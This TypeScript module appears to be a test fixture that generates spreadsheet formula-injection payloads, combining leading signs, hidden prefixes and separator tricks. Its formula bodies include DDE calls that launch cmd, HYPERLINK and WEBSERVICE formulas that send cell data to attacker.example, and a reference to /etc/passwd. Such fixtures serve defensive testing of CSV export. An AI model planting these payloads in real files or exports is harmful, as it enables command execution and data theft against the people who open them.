/*
 * Texts that a spreadsheet would run if it were let: every sign, every way to hide it, every known use.
 */

const SIGNS = [...'=+-@＝＋－＠'];

/** What may stand before the sign and be skipped by a spreadsheet, or by somebody who cleans the file up. */
const BEFORE = ['', ' ', '\t', '\n', '\r\n', '"', "'", '\u00a0', '\u200b', '\ufeff', ' "', "\t'"];

const BODIES = [
  '1+1',
  'SUM(1;2)',
  "cmd|'/c calc'!A0",
  'HYPERLINK("http://attacker.example/?x="&A1;"open")',
  'DDE("cmd";"/c calc";"x")',
  'WEBSERVICE("http://attacker.example/"&A1)',
  "'file:///etc/passwd'#$passwd.A1",
];

/** Signs that would stand first in a cell or a line if quotes or separators were misread. */
const INSIDE = [
  'a;=1+1',
  'a,=1+1',
  'a\t=1+1',
  'a\n=1+1',
  'a\r\n=1+1',
  'a";"=1+1',
  'a","=1+1',
  'a"\r\n"=1+1"',
  '";=1+1;"',
];

/** The payloads, each once. */
export const FORMULAS: readonly string[] = [
  // What a spreadsheet runs without any doubt.
  ...BODIES.map((body) => `=${body}`),
  ...SIGNS.flatMap((sign, s) =>
    BEFORE.flatMap((before, b) =>
      [0, 1].map((turn) => `${before}${sign}${BODIES[(s + b + turn * 3) % BODIES.length]}`),
    ),
  ),
  ...INSIDE,
].filter((text, index, all) => all.indexOf(text) === index);
